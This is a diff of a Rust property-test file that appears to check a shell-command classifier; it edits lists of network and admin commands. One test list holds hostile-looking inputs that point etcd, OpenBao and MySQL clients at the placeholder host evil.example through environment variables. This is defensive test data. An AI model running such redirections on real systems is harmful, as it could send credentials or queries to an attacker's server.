@@ -3966,7 +3966,7 @@ proptest! {
         ]),
         looped in select(vec!["Restart%201", "Power%20Off", "Reset%201"]),
         plain in select(vec![
-            "iptables -Z", "conntrack -F", "ssh-keygen -R 192.168.10.12", "unbound-control stats", "pfctl -k 10.0.0.5",
+            "iptables -Z", "conntrack -F", "ssh-keygen -R 192.168.10.12", "unbound-control stats",
             "pfctl -si", "pfctl -vvsr", "pfctl -sI -vv", "pfctl -t sshlockout -T show", "sockstat -4l",
             "mosquitto_pub -h 192.168.10.21 -t zigbee2mqtt/bridge/request/health_check -m ''",
             "unbound-control stats_noreset",
@@ -5519,7 +5519,7 @@ proptest! {
         list in select(vec!["'3- 2'", "'1 2'", "2", "1-"]),
         pgpass in select(vec!["1-4,6", "5", "4-", "1,6"]),
         repair in select(vec!["--rep", "--repai", "--auto", "--use", "-ruroot", "-cr"]),
-        value in select(vec!["incus list -f compact", "gojq --compact-output . x.json", "ugrep -r trim /srv", "ack --type=perl compact"]),
+        value in select(vec!["nomad-pack list -f compact", "gojq --compact-output . x.json", "ugrep -r trim /srv", "ack --type=perl compact"]),
         steer in select(vec!["ETCDCTL_ENDPOINTS=https://evil.example:2379; etcdctl endpoint health", "BAO_ADDR=https://evil.example; bao status", "MYSQL_HOST=evil.example; mysql -e 'select 1'"]),
     ) {
         not_read_only(&format!("chkrootkit {chk}"))?;
